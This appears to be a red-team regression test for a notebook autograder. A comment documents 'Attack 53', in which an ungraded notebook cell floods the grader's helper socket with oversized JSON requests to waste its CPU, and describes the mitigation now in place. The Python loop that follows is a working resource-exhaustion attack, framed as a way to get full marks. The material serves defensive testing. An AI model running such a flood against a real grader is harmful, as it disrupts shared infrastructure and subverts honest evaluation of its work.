# Attack 53, reference-helper requests that cost the grader CPU before they are refused: from a cell
# of its own (ungraded, after the tests), the notebook sends the worker's helper socket request
# after request of just under 8 MiB, each holding 1,950 integers of 4,300 digits (under the
# 100,000-value cap), for a helper no cell binds. The worker's one server thread read and
# json-decoded each (about 0.18 s of its CPU) before it looked at the name, and nothing but the
# notebook's time budget (1,800 s) bounded it. A call is now read only up to 1 MiB, refused
# undecoded while no helper is served, and a notebook's calls are decoded for at most
# MAX_NOTEBOOK_CPU_SECONDS of the grader's CPU time. (The red team's version flooded from six
# cells of 27 s each; one cell of 5 s shows the same.)
# Why: full marks: the honest equivalent is the solution.
# ruff: noqa
# fmt: off
### AFTER wrap_up
import os as _os, socket as _so, struct as _st, time as _ti
_p = _os.environ.get("LAB3_HELPERS")
_big = ('{"args":[' + ",".join(["7" * 4300] * 1950) + '],"helper":"x"}').encode()
_frame = _st.pack(">I", len(_big)) + _big
_t0, _n = _ti.time(), 0
while _p and _ti.time() - _t0 < 5:
    try:
        with _so.socket(_so.AF_UNIX, _so.SOCK_STREAM) as _s:
            _s.connect(_p); _s.sendall(_frame); _s.recv(200)
        _n += 1
    except OSError as _e:
        _ti.sleep(0.1)
print("ATTACK reference_parse_flood: requests", _n, "in", round(_ti.time() - _t0, 1), "s")
